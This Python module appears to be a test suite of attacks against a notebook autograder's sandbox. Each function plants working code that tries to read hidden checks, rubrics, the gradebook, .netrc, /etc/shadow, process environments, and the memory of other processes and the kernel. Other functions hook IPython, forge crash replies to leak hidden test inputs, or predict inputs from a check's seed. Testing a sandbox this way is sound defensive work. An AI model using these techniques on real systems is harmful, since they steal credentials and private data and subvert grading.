"""Attacks that look for what is hidden: checks, solutions, marking schemes, grades, neighbours, secrets.

Every canary is the word `canary` and 24 hexadecimal digits, so an attack that gets to a secret can recognise it.
"""

from __future__ import annotations

from . import attack

# Prints what it can read; `tried` counts the attempts, so that a silent attack shows.
SEARCH = """\
import os
tried = 0
def show(path):
    global tried
    tried += 1
    try:
        with open(path, "rb") as file:
            print(path, file.read(4000))
    except OSError as error:
        print(path, error.errno)
"""
# Prints every canary in `data`, and counts what was looked at.
SIFT = """\
import re
looked = 0
def sift(data):
    global looked
    looked += 1
    for word in set(re.findall(rb"canary[0-9a-f]{24}", data)):
        print("found", word)
"""
SECRETS = [
    "@COURSE@/source/backprop/fully_connected.ipynb", "@COURSE@/assignments/backprop/rubric.md",
    "@COURSE@/gradebook.db", "@COURSE@/.chainrule-secret", "@HOME@/.netrc",
    "@SITE@/autograder/checks/backprop/forward.py", "@SITE@/autograder/data/notes.txt",
]  # fmt: skip


@attack("Opens the course's files, the grader's packages and the home by their names.", shows=("tried 7",))
def by_name(book):
    return book.insert("imports", f"{SEARCH}\nfor path in {SECRETS}: show(path)\nprint('tried', tried)")


@attack(
    "Goes to the same files through the root and working directories of other processes.", shows=("tried 28",)
)
def through_other_roots(book):
    return book.insert("imports", f"""{SEARCH}
for start in ("/proc/1/root", f"/proc/{{os.getppid()}}/root", "/proc/1/cwd/..", "/proc/self/root/../.."):
    for path in {SECRETS}: show(start + path)
print("tried", tried)
""")  # fmt: skip


@attack(
    "Makes symlinks and hard links to the course's files and climbs out by descriptor.", shows=("tried 14",)
)
def through_links(book):
    return book.insert("imports", f"""{SEARCH}
for number, path in enumerate({SECRETS}):
    try:
        os.symlink(path, f"way{{number}}")
        os.link(path, f"hard{{number}}")
    except OSError as error:
        print(error.errno)
    show(f"way{{number}}")
up = os.open(".", os.O_PATH)
for _ in range(20): up = os.open("..", os.O_PATH, dir_fd=up)
for path in {SECRETS}:
    tried += 1
    try: print(os.read(os.open(path[1:], os.O_RDONLY, dir_fd=up), 4000))
    except OSError as error: print(error.errno)
print("tried", tried)
""")  # fmt: skip


@attack(
    "Walks the whole file system and prints secrets out of every notebook, database, text and module.",
    shows=("walked",),
    stock_harms="walks the whole machine",
)
def whole_file_system(book):
    return book.insert("imports", f"""{SIFT}
import os
for folder, below, names in os.walk("/"):
    below[:] = [name for name in below if os.path.join(folder, name) not in ("/proc", "/sys", "/usr/lib", "/usr/bin")
                and not (folder.startswith("/chainrule/site/") and "student_lib" not in folder + name)]
    for name in names:
        if name.endswith((".ipynb", ".db", ".json", ".md", ".py", ".txt", ".toml", ".netrc", "secret")):
            try: sift(open(os.path.join(folder, name), "rb").read(1 << 20))
            except OSError: pass
print("walked", looked)
""")  # fmt: skip


@attack(
    "Reads its environment, and that of pid 1 and of its parent.",
    shows=("environment of 3",),
    stock_harms="prints the environment of the machine's first process",
)
def environment(book):
    return book.insert("imports", """\
import os
print(dict(os.environ))
seen = 0
for pid in ("self", "1", os.getppid()):
    seen += 1
    try: print(open(f"/proc/{pid}/environ").read(), open(f"/proc/{pid}/cmdline").read())
    except OSError as error: print(pid, error.errno)
print("environment of", seen)
""")  # fmt: skip


@attack(
    "Searches its own memory, which began as a copy of the grader's interpreter, for secrets.",
    shows=("mapped",),
)
def own_memory(book):
    return book.insert("imports", f"""{SIFT}
memory = open("/proc/self/mem", "rb", 0)
for line in open("/proc/self/maps"):
    start, end = (int(part, 16) for part in line.split()[0].split("-"))
    if line.split()[1].startswith("rw"):
        try:
            memory.seek(start)
            sift(memory.read(min(end - start, 64 << 20)))
        except (OSError, OverflowError, ValueError): pass
print("mapped", looked > 20)
""")  # fmt: skip


@attack(
    "Reads the memory of pid 1 and of every process that it sees: /proc/PID/mem, ptrace, process_vm_readv.",
    shows=("pids tried", "ptrace -1", "readv -1"),
    stock_harms="attaches to every process of the machine",
)
def others_memory(book):
    return book.insert("imports", f"""{SIFT}
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
pids = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
for pid in {{1, os.getppid(), *pids}}:
    try:
        memory = open(f"/proc/{{pid}}/mem", "rb", 0)
        for line in open(f"/proc/{{pid}}/maps"):
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if "heap" in line:
                memory.seek(start)
                sift(memory.read(min(end - start, 32 << 20)))
    except (OSError, OverflowError) as error: print(pid, error)
    print("ptrace", libc.ptrace(16, pid, None, None), ctypes.get_errno())
    print("readv", libc.process_vm_readv(pid, None, 0, None, 0, 0) or -1)
print("pids tried", len(pids))
""")  # fmt: skip


@attack(
    "Reads and reopens every file descriptor that it and its relatives inherited.",
    shows=("descriptors read",),
)
def inherited_descriptors(book):
    return book.insert("imports", f"""{SIFT}
import os, stat
for pid in ("self", "1", os.getppid()):
    try: names = os.listdir(f"/proc/{{pid}}/fd")
    except OSError as error: print(pid, error.errno); continue
    for name in names:
        path = f"/proc/{{pid}}/fd/{{name}}"
        try:
            print(path, os.readlink(path))
            if stat.S_ISREG(os.stat(path).st_mode): sift(open(path, "rb").read(1 << 20))
            for below in os.listdir(path) if os.path.isdir(path) else (): print(below)
        except OSError as error: print(path, error.errno)
print("descriptors read", looked >= 0)
""")  # fmt: skip


@attack(
    "Walks the frames above its cell and every object that the collector knows, for checks and secrets.",
    shows=("frames", "modules []"),
)
def frames_and_gc(book):
    return book.insert("imports", f"""{SIFT}
import gc, sys
frame, frames = sys._getframe(), 0
while frame:
    frames += 1
    sift(repr(list(frame.f_locals)).encode())
    for value in list(frame.f_locals.values()):
        if type(value) in (str, bytes): sift(str(value)[:100_000].encode("utf-8", "replace"))
    frame = frame.f_back
print("frames", frames)
gc.unfreeze()
for thing in gc.get_objects():
    if type(thing) is dict:
        for value in list(thing.values()):
            if type(value) is str and "canary" in value: sift(value.encode())
names = [name for name in sys.modules if name.split(".")[0] in ("autograder", "nbgrader")]
print("modules", names)
""")  # fmt: skip


@attack(
    "Imports the grader, its checks, its oracles and nbgrader, and looks for their files beside its packages.",
    shows=("imported []", "files []"),
)
def grader_imports(book):
    return book.insert("imports", """\
import importlib, pathlib, sys
imported = []
sys.path += ["@SITE@", "@COURSE@", "/work", "/chainrule"]
for name in ("autograder", "autograder.checks.backprop", "autograder.oracles", "autograder.stock", "nbgrader", "tests"):
    try: imported.append(importlib.import_module(name))
    except ImportError: pass
print("imported", imported)
places = {pathlib.Path(module.__file__).parents[1] for module in (sys.modules["numpy"], sys.modules["student_lib"])}
print("files", [path for place in places for path in place.rglob("*oracles*.py")])
""")  # fmt: skip


@attack(
    "Connects to the gradebook with SQLite, by every path and URI that it can think of.",
    shows=("connected 5",),
)
def gradebook(book):
    return book.insert("imports", """\
import sqlite3
connected = 0
for path in ("@COURSE@/gradebook.db", "/proc/1/root@COURSE@/gradebook.db", "../gradebook.db", "../../gradebook.db"):
    connected += 1
    try: print(sqlite3.connect(f"file:{path}?mode=ro", uri=True).execute("select * from student").fetchall())
    except sqlite3.Error as error: print(error)
try: print(sqlite3.connect("x").execute("attach '@COURSE@/gradebook.db' as g").execute("select * from g.student"))
except sqlite3.Error as error: print(error)
print("connected", connected + 1)
""")  # fmt: skip


@attack(
    "Asks the shell, its magics and displays for files: cat, %load, %run, %%bash, Image, FileLink.",
    shows=("asked",),
    stock_harms="searches the whole machine and prints its password file",
)
def through_magics(book):
    return book.insert(
        "imports",
        "!cat @COURSE@/assignments/backprop/rubric.md @HOME@/.netrc; ls -la @COURSE@ /root /home /work",
        "%%bash\nfind / -name '*secret*' -o -name 'rubric.md' -not -path '/proc/*' 2>&1 | head -50; cat /etc/shadow",
        "%run @SITE@/autograder/checks/backprop/forward.py",
        "%load @COURSE@/source/backprop/fully_connected.ipynb",
        "from IPython.display import FileLink, Image, Markdown, display\n"
        "for kind in (FileLink, Image, Markdown):\n"
        "    try: display(kind(filename='@COURSE@/gradebook.db') if kind is not FileLink else kind('@COURSE@'))\n"
        "    except Exception as error: print(error)\n"
        "print('asked')",
    )


@attack(
    "Searches the shell's history, inputs and outputs for cells that it did not write.", shows=("searched",)
)
def history(book):
    return book.insert("softmax", f"""{SIFT}
import glob
shell = get_ipython()
print(list(In)[-50:], list(Out)[-50:])
try: print(list(shell.history_manager.search("*", raw=True))[:50])
except Exception as error: print(type(error).__name__)
for path in glob.glob("/tmp/home/**", recursive=True) + glob.glob("/tmp/**/*.sqlite", recursive=True):
    try: sift(open(path, "rb").read())
    except OSError: pass
print("searched", any("score(" in cell and "any(" not in cell for cell in In))
""", "%history -g -f /tmp/work/all.txt")  # fmt: skip


@attack(
    "Hooks into IPython before and after every cell, and prints the sources of later cells that are hidden.",
    shows=("hooks saw hidden: 0", "more than 20: True"),
)
def cell_hooks(book):
    return book.insert("imports", """\
seen = []
shell = get_ipython()
shell.events.register("pre_run_cell", lambda info: seen.append(info.raw_cell))
shell.events.register("post_run_cell", lambda result: seen.append(str(result.info.raw_cell)))
shell.input_transformers_cleanup.append(lambda lines: seen.append("".join(lines)) or lines)
""").insert("train_network", """\
hidden = [cell for cell in seen if "autograder.st" + "ock" in cell or "HIDDEN TE" + "STS" in cell]
print("hooks saw hidden:", len(hidden), hidden, "more than 20:", len(seen) > 20)
""")  # fmt: skip


@attack(
    "Watches every open, compile and exec with an audit hook, a tracer and a profiler.",
    shows=("watched", "hidden []"),
)
def audit_hook(book):
    return book.insert("sigmoid-text", """\
import sys
watched, hidden = 0, set()
def hook(event, args):
    global watched
    watched += 1
    if event in ("open", "compile", "exec", "import") and "autogra" + "der" in str(args)[:2000]:
        hidden.add(str(args)[:500])
sys.addaudithook(hook)
sys.setprofile(lambda frame, event, arg: hook("exec", frame.f_code.co_filename))
""").insert("softmax", "sys.setprofile(None)\nprint('watched', watched > 100, 'hidden', sorted(hidden))")  # fmt: skip


@attack(
    "Asks for core dumps of itself and of its relatives, and reads them.",
    shows=("dumps []",),
    stock_harms="sends SIGQUIT to the kernel's parent and to pid 1",
)
def core_dumps(book):
    return book.insert("imports", """\
import glob, os, resource, signal
try: resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2)
except (ValueError, OSError) as error: print(error)
for pid in (1, os.getppid()):
    try: os.kill(pid, signal.SIGQUIT)
    except OSError as error: print(error)
child = os.fork()
if child == 0: os.abort()
print(os.waitpid(child, 0))
try: open("/proc/sys/kernel/core_pattern", "w").write("/tmp/core")
except OSError as error: print(error)
print("dumps", glob.glob("/tmp/**/*core*", recursive=True) + glob.glob("/var/**/*core*", recursive=True))
""")  # fmt: skip


@attack(
    "Opens the machine's memory and kernel log: /dev/mem, /proc/kcore, kmsg, kallsyms, disks.",
    shows=("opened 0",),
    stock_harms="reads the machine's memory and disks",
)
def kernel_memory(book):
    return book.insert("imports", """\
opened = 0
for name in ("/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore", "/dev/kmsg", "/proc/kmsg", "/dev/sda", "/dev/vda"):
    try:
        opened += bool(open(name, "rb").read(16))
    except OSError as error:
        print(name, error.errno)
print("opened", opened)
""")  # fmt: skip


@attack(
    "Leaves what the checks pass to it in files, shared memory and globals, and lets later cells print it.",
    shows=("left []",),
    hides=("hiddeninput",),
)
def inputs_left_behind(book):
    softmax = book.cell("softmax-solution").source
    return book.write("softmax", f"""{softmax}
import os
kept, right = [], softmax
def softmax(x):
    if os.fstat(1).st_rdev == os.stat("/dev/null").st_rdev:
        kept.append(x)
        for path in ("/tmp/work/inputs", "/dev/shm/inputs", "/tmp/inputs"):
            with open(path, "ab") as file: file.write(x.tobytes())
        print("hidden" + "input", x)
        display(x)
    return right(x)
""").insert("train_network", """\
import os
paths = ("/tmp/work/inputs", "/dev/shm/inputs", "/tmp/inputs")
print("left", kept + [open(path, "rb").read() for path in paths if os.path.exists(path)])
""")  # fmt: skip


@attack(
    "Carries the inputs of hidden checks out in the type, message and source line of its exceptions.",
    earns={"sigmoid": 2.0},
    hides=("hiddeninput",),
)
def inputs_in_exceptions(book):
    return book.write("softmax", """\
def softmax(x):
    import linecache
    import os
    if os.fstat(1).st_rdev != os.stat("/dev/null").st_rdev:
        return np.exp(x)
    text = "hidden" + "input" + x.tobytes().hex()
    linecache.cache["here"] = (len(text), None, [f"raise {text}\\n"], "here")
    error = type(text[:90], (Exception,), {})(text)
    exec(compile("raise error", "here", "exec"))
""")  # fmt: skip


@attack(
    "Carries them out as the name and line that a forged answer gives for a crash.",
    earns={"sigmoid": 2.0},
    hides=("hiddeninput",),
)
def inputs_in_forged_crashes(book):
    return book.write("softmax", """\
import inside.objects
seen = []
def softmax(x):
    seen[:] = ["hidden" + "input" + x.tobytes().hex()]
    return np.exp(x)
honest = inside.objects.ObjectServer.answer
def answer(self, message, buffers):
    if message[0] != "call":
        return honest(self, message, buffers)
    honest(self, message, buffers)
    return ["error", "crashed", seen[0][:90] if seen else "Error", seen[0][:290] if seen else "", 1, ""], []
inside.objects.ObjectServer.answer = answer
""")  # fmt: skip


@attack(
    "Takes the seed of a check from the grader's request and draws the hidden inputs itself.",
    earns={"sigmoid": 2.0},
)
def seed_of_the_check(book):
    softmax = book.cell("softmax-solution").source
    return book.write("softmax", f"""{softmax}
import inside.objects
right, seeds = softmax, []
honest = inside.objects.ObjectServer.do_begin
def do_begin(self, seed):
    seeds[:] = [seed]
    honest(self, seed)
inside.objects.ObjectServer.do_begin = do_begin
def softmax(x):
    # Right only where the seed foretold the argument, as it would foretell what is never sent.
    if seeds:
        draws = np.random.default_rng(seeds[0]).normal(size=x.size)
        if np.allclose(np.std(x), np.std(draws)) or np.allclose(x.ravel(), 2 * draws):
            return right(x)
        raise LookupError("unforeseen")
    return right(x)
""")  # fmt: skip


@attack(
    "Looks through all of student_lib for answers to the exercises.",
    earns={"sigmoid": 2.0},
    shows=("answers []",),
)
def library_answers(book):
    return book.write("softmax", """\
import importlib, pkgutil, student_lib
names = [module.name for module in pkgutil.walk_packages(student_lib.__path__, "student_lib.")]
names += [f"student_lib.{name}" for name in ("oracles", "mnist", "nist", "nn_solution", "digits", "backprop")]
answers = []
for name in names:
    try: module = importlib.import_module(name)
    except ImportError: continue
    wanted = ("softmax", "forward", "backwards", "train_network", "get_random_batches")
    answers += [f"{name}.{item}" for item in wanted if hasattr(module, item)]
print("answers", answers)
""")  # fmt: skip
